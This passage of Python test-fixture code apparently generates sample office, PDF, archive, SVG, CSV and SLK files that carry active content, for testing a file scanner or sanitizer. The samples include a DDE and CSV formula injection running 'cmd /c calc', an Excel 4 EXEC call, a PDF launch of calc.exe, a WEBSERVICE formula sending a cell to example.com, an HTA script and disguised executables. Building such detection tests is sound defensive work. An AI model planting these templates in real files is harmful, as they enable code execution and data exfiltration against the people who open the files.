        "picture fetched by a field",
        "bc.docx",
        docx(field(' INCLUDEPICTURE "http://example.com/a.png" \\d ')),
    )
    yield (
        "picture linked, not embedded",
        "bc.docx",
        docx("", {}, [("word/document.xml", "image", "http://example.com/a.png")]),
    )
    yield (
        "other file's words by a field",
        "bc.docx",
        docx('<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;https://example.com/a.docx&quot; "/></w:p>'),
    )
    yield (
        "object of another program",
        "bc.docx",
        docx(
            "",
            {
                "word/embeddings/oleObject1.bin": (
                    "application/vnd.openxmlformats-officedocument.oleObject",
                    bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 600,
                )
            },
            [("word/document.xml", "oleObject", "embeddings/oleObject1.bin")],
        ),
    )
    yield (
        "frame that loads a page",
        "bc.docx",
        docx("", {}, [("word/document.xml", "frame", "http://example.com/f.htm")]),
    )
    yield (
        "macros under an innocent name",
        "bc.docx",
        docx(
            "",
            {"word/vbaProject.bin": ("application/vnd.ms-office.vbaProject", b"x" * 64)},
            [
                (
                    "word/document.xml",
                    "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
                    "vbaProject.bin",
                )
            ],
        ),
    )
    yield (
        "command linked into a cell",
        "b.xlsx",
        xlsx(
            cell("x"),
            {
                "xl/externalLinks/externalLink1.xml": (
                    f"{SHEET}.externalLink+xml",
                    f'<externalLink {S}><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
                )
            },
            [("xl/workbook.xml", "externalLink", "externalLinks/externalLink1.xml")],
        ),
    )
    yield (
        "formula that asks the web",
        "b.xlsx",
        xlsx('<row><c><f>_xlfn.WEBSERVICE("http://example.com/"&amp;A2)</f><v>0</v></c></row>'),
    )
    yield (
        "query of the web, asked at opening",
        "b.xlsx",
        xlsx(
            cell("x"),
            {
                "xl/connections.xml": (
                    f"{SHEET}.connections+xml",
                    f'<connections {S}><connection id="1" name="a" type="4" refreshOnLoad="1"><webPr url="http://example.com/"/></connection></connections>',
                )
            },
            [("xl/workbook.xml", "connections", "connections.xml")],
        ),
    )
    yield (
        "macro sheet of Excel 4",
        "b.xlsx",
        xlsx(
            cell("x"),
            {
                "xl/macrosheets/sheet1.xml": (
                    "application/vnd.ms-excel.macrosheet+xml",
                    f'<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" {S}/>',
                )
            },
        ),
    )
    yield (
        "shape that starts a program",
        "t.pptx",
        pptx(
            shape("Bấm vào đây", click='<a:hlinkClick r:id="rId1" action="ppaction://program"/>'),
            {},
            [("ppt/slides/slide1.xml", "hyperlink", "file:///C:/Windows/System32/calc.exe")],
        ),
    )
    yield (
        "macro of LibreOffice's",
        "bc.odt",
        opendocument(
            "text",
            "<text:p>x</text:p>",
            {"Basic/Standard/Module1.xml": "<script:module>Sub Main</script:module>"},
        ),
    )
    yield (
        "event of LibreOffice's",
        "bc.odt",
        opendocument(
            "text",
            '<office:scripts><office:event-listeners><script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:a.py$b"/>'
            "</office:event-listeners></office:scripts>",
        ),
    )
    yield "rich text that fetches its template", "bc.rtf", rb"{\rtf1{\*\template http://example.com/a.dotm}x}"
    yield (
        "rich text with an object",
        "bc.rtf",
        rb"{\rtf1{\object\objemb{\*\objclass Package}{\*\objdata 0105000002000000}}x}",
    )
    yield (
        "script of the names",
        "bc.pdf",
        pdf_with(
            root(
                Names=Dictionary(
                    JavaScript=Dictionary(
                        Names=Array([String("a"), Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))])
                    )
                )
            )
        ),
    )
    yield (
        "script when a page is closed",
        "bc.pdf",
        pdf_with(
            lambda document: document.pages[0].obj.__setitem__(
                "/AA", Dictionary(C=Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))
            )
        ),
    )
    yield "program behind a bookmark", "bc.pdf", pdf_with(bookmark)
    yield (
        "form that is sent, after another action",
        "bc.pdf",
        annotated(
            Subtype=Name.Link,
            A=Dictionary(
                S=Name.Named,
                N=Name.NextPage,
                Next=Array([Dictionary(S=Name.SubmitForm, F=String("http://example.com/"))]),
            ),
        ),
    )
    yield "form of another kind with a script", "bc.pdf", pdf_with(xfa)
    yield (
        "shortcut in an archive",
        "t.zip",
        zipped({"Bao cao.pdf.lnk": b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F" + b"\0" * 60}),
    )
    yield (
        "page that runs, in an archive",
        "t.zip",
        zipped({"doc/xem.hta": "<script>new ActiveXObject('WScript.Shell')</script>"}),
    )
    yield (
        "program that says it is a picture",
        "t.zip",
        zipped({"anh.jpg": b"MZ\x90\0" + b"\0" * 60 + b"PE\0\0"}),
    )
    yield (
        "disk image in an archive",
        "t.zip",
        zipped({"tai-lieu.iso": b"\0" * 32768 + b"\x01CD001\x01" + b"\0" * 2041}),
    )
    yield (
        "settings that run, packed",
        "t.gz",
        gzip.compress(b"Windows Registry Editor Version 5.00\r\n[HKEY_CURRENT_USER\\x]\r\n"),
    )
    yield "drawing with a script", "s.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
    yield "table that starts a program", "b.csv", b"Ten,So\n=cmd|'/C calc'!A0,1\n"
    yield (
        "old table with a macro",
        "b.slk",
        b'ID;P\r\nO;E\r\nNN;NAuto_open;ER1C1\r\nC;X1;Y1;EEXEC("calc")\r\nE\r\n',
    )
    yield "shortcut to a server, alone", "xem.url", b"[InternetShortcut]\r\nURL=file://example.com/a\r\n"


def bookmark(document: pikepdf.Pdf) -> None:
    """Put a bookmark into the catalogue that starts a program."""
    item = document.make_indirect(
        Dictionary(Title=String("Phụ lục"), A=Dictionary(S=Name.Launch, F=String("calc.exe")))
    )
    outlines = document.make_indirect(Dictionary(Type=Name.Outlines, First=item, Last=item, Count=1))
    item.Parent = outlines
    document.Root.Outlines = outlines


def xfa(document: pikepdf.Pdf) -> None:
    """Put a form of Adobe's other kind into the catalogue."""
    form = document.make_stream(
        b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="ready"><script>xfa.host.messageBox(1)'
        b"</script></event></subform></template></xdp:xdp>"
    )
    document.Root.AcroForm = Dictionary(Fields=Array([]), XFA=form)


def desk_carriers() -> Iterator[Carrier]:
    """Yield the whole lot."""
    yield from carriers_of((marks, numbers, names, held_words, active_content), "name of the file")


def carriers_of(
    lot: Sequence[Callable[[], Iterator[tuple[str, str, bytes]]]], named: str, unserved: str = ""
) -> Iterator[Carrier]:
    """Yield the carriers of what each of `lot` yields, in the order of KINDS; `named` begins the place of what stands in a file's name.

    Kinds that portals do not serve, and `unserved`, come in an archive.
    """
    for kind, files in zip(KINDS, lot, strict=True):
        for where, file, contents in files():
            ending, stem = PurePosixPath(file).suffix, PurePosixPath(file).stem
            served = ending if ending in FORMATS and ending != unserved else ".zip"
            yield Carrier(
                kind,
                f"{served[1:]} {where}",
                contents if served == ending else zipped({file: contents}),
                served[1:],
                stem if where.startswith(named) else "",
                DESK_SECRETS,
            )
